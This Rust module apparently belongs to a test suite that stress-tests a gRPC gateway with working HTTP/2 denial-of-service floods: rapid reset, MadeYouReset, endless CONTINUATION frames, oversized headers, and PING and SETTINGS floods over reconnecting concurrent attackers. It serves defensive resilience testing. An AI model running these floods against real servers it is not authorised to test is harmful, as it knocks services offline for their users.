//! Attacks that send as fast as the gateway reads; a connection that it ends is replaced at once.

use std::{
    sync::Arc,
    time::{Duration, Instant},
};

use testkit::grpc::ATTACH;
use tokio::{
    io::{AsyncWriteExt as _, sink},
    net::TcpStream,
    time::{sleep, timeout_at},
};
use tokio_util::task::AbortOnDropHandle;

use super::{Attack, Findings, Target};
use crate::wire::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, SETTINGS,
    head_block, literal,
};

/// Attackers of one kind.
const CONNECTIONS: usize = 6;

/// Before a connection is replaced: ports are not without end.
const DELAY: Duration = Duration::from_millis(20);

/// A debug build reads ten times slower, and the system keeps megabytes for it to read: attackers go easy on it.
const PACE: Option<Duration> = if cfg!(debug_assertions) { Some(Duration::from_millis(10)) } else { None };

/// A stream of frames.
struct Flood {
    /// Sent first on each connection, after the greeting.
    opening: fn(Frames) -> Frames,
    /// Sent again and again; its argument is the number of batches before it on this connection.
    batch: fn(u32) -> Frames,
    /// The number of frames, or of calls, in a batch.
    weight: u64,
    /// Whether the responses of the gateway are read.
    reads: bool,
    /// Attackers at once.
    connections: usize,
}

impl Flood {
    /// Frames that need no stream, responses read.
    fn of(weight: u64, batch: fn(u32) -> Frames) -> Self {
        Self { opening: |frames| frames, batch, weight, reads: true, connections: CONNECTIONS }
    }

    fn after(self, opening: fn(Frames) -> Frames) -> Self {
        Self { opening, ..self }
    }

    /// From fewer attackers: whole calls must leave permits for others, or they are an overload, which has a check of its
    /// own.
    fn from(self, connections: usize) -> Self {
        Self { connections, ..self }
    }

    fn unread(self) -> Self {
        Self { reads: false, ..self }
    }
}

pub(super) fn all() -> Vec<Attack> {
    let floods = [
        ("rapid reset", Flood::of(64, |batch| each_stream(64, batch, |frames, id| frames.head(id, &[]).reset(id)))),
        (
            "rapid reset of whole calls",
            Flood::of(64, |batch| each_stream(64, batch, |frames, id| frames.call(id).reset(id))),
        ),
        ("resets that the gateway is made to send", Flood::of(60, |batch| each_stream(60, batch, faulty))),
        ("CONTINUATION without end", Flood::of(4, |_| repeat(4, fat_continuation)).after(endless_head)),
        (
            "empty CONTINUATION without end",
            Flood::of(512, |_| repeat(512, |frames| frames.add(CONTINUATION, 0, 1, &[]))).after(endless_head),
        ),
        ("header lists over the limit", Flood::of(4, |batch| each_stream(4, batch, huge_head))),
        (
            "empty DATA",
            Flood::of(512, |_| repeat(512, |frames| frames.add(DATA, 0, 1, &[]))).after(|frames| frames.head(1, &[])),
        ),
        ("PING", Flood::of(256, |_| repeat(256, |frames| frames.add(PING, 0, 0, b"attacked")))),
        (
            "PING, responses unread",
            Flood::of(256, |_| repeat(256, |frames| frames.add(PING, 0, 0, b"attacked"))).unread(),
        ),
        (
            "PING responses that nobody asked for",
            Flood::of(256, |_| repeat(256, |frames| frames.add(PING, ACK, 0, b"attacked"))),
        ),
        ("SETTINGS", Flood::of(512, |_| repeat(512, |frames| frames.add(SETTINGS, 0, 0, &[])))),
        (
            "SETTINGS, responses unread",
            Flood::of(512, |_| repeat(512, |frames| frames.add(SETTINGS, 0, 0, &[]))).unread(),
        ),
        ("windows of many stuck responses resized", Flood::of(64, |_| repeat(32, resize)).after(stuck_responses)),
        ("whole calls, responses unread", Flood::of(32, |batch| each_stream(32, batch, Frames::call)).unread().from(3)),
    ];
    floods.into_iter().map(|(name, flood)| Attack::plain(name, &[], |target| run(target, flood))).collect()
}

/// Something on each of the next streams.
fn each_stream(number: u32, batch: u32, step: fn(Frames, u32) -> Frames) -> Frames {
    (0..number).fold(Frames::default(), |frames, at| step(frames, (batch * number + at) * 2 + 1))
}

fn repeat(number: u32, step: fn(Frames) -> Frames) -> Frames {
    (0..number).fold(Frames::default(), |frames, _| step(frames))
}

/// `MadeYouReset`: a call, and then a frame for which the server must reset its stream.
fn faulty(frames: Frames, stream: u32) -> Frames {
    match stream / 2 % 5 {
        0 => frames.call(stream).window(stream, 0),
        1 => frames.call(stream).add(DATA, 0, stream, b"after the end"),
        2 => frames.call(stream).window(stream, 0x7fff_ffff),
        3 => frames.call(stream).add(PRIORITY, 0, stream, &[0; 4]),
        _ => {
            let mut block = head_block(ATTACH, &[]);
            literal(&mut block, "Upper-Case", "is malformed");
            frames.add(HEADERS, END_HEADERS | END_STREAM, stream, &block)
        }
    }
}

fn endless_head(frames: Frames) -> Frames {
    frames.add(HEADERS, 0, 1, &head_block(ATTACH, &[]))
}

fn fat_continuation(frames: Frames) -> Frames {
    frames.add(CONTINUATION, 0, 1, &fat_block())
}

/// Almost 16 KiB of header fields, the most that one frame takes.
fn fat_block() -> Vec<u8> {
    let mut block = Vec::new();
    for _ in 0..4 {
        literal(&mut block, "x-fat", &"f".repeat(4_000));
    }
    block
}

/// A head of some 64 KiB that ends as it should.
fn huge_head(frames: Frames, stream: u32) -> Frames {
    let frames = frames.add(HEADERS, END_STREAM, stream, &head_block(ATTACH, &[]));
    let frames = (0..3).fold(frames, |frames, _| frames.add(CONTINUATION, 0, stream, &fat_block()));
    frames.add(CONTINUATION, END_HEADERS, stream, &fat_block())
}

/// Calls with responses that find no window.
fn stuck_responses(frames: Frames) -> Frames {
    let frames = frames.settings(&[(INITIAL_WINDOW_SIZE, 0)]);
    (0..50).fold(frames, |frames, at| frames.call(at * 2 + 1))
}

/// Each of the two is a walk over all streams. The window stays too small for a response.
fn resize(frames: Frames) -> Frames {
    frames.settings(&[(INITIAL_WINDOW_SIZE, 1)]).settings(&[(INITIAL_WINDOW_SIZE, 0)])
}

async fn run(target: Target, flood: Flood) -> Findings {
    let flood = Arc::new(flood);
    let attackers: Vec<_> =
        (0..flood.connections).map(|_| tokio::spawn(attacker(target, Arc::clone(&flood)))).collect();
    let (mut batches, mut connections) = (0, 0);
    let mut findings = Findings::default();
    for attacker in attackers {
        let (sent, opened, kept) = attacker.await.expect("an attacker does not panic");
        batches += sent;
        connections += opened;
        findings.open.extend(kept.map(|kept| Box::new(kept) as _));
    }
    findings.figures.push(format!("{} sent on {connections} connections", batches * flood.weight));
    findings
}

/// Batches sent, connections opened, and the last connection.
async fn attacker(target: Target, flood: Arc<Flood>) -> (u64, u64, Option<impl Send>) {
    let (mut sent, mut opened) = (0, 0);
    let end = target.end.into();
    loop {
        let kept = async {
            let stream = TcpStream::connect(target.address).await.ok()?;
            opened += 1;
            let (mut responses, mut writer) = stream.into_split();
            // Without it, unread bytes fill the window and the gateway can write no more.
            let mut unread = None;
            let mut reader = None;
            if flood.reads {
                let reading = async move { drop(tokio::io::copy(&mut responses, &mut sink()).await) };
                reader = Some(AbortOnDropHandle::new(tokio::spawn(reading)));
            } else {
                unread = Some(responses);
            }
            let mut frames = (flood.opening)(Frames::greeting(&[]));
            for batch in 0.. {
                match timeout_at(end, writer.write_all(&frames.0)).await {
                    Ok(Ok(())) => sent += u64::from(batch > 0),
                    Ok(Err(_)) => return None,
                    Err(_) => break,
                }
                if Instant::now() > target.end {
                    break;
                }
                if let Some(pace) = PACE {
                    sleep(pace).await;
                }
                frames = (flood.batch)(batch);
            }
            Some((writer, reader, unread))
        };
        match kept.await {
            Some(kept) => return (sent, opened, Some(kept)),
            None if Instant::now() + DELAY > target.end => return (sent, opened, None),
            None => sleep(DELAY).await,
        }
    }
}
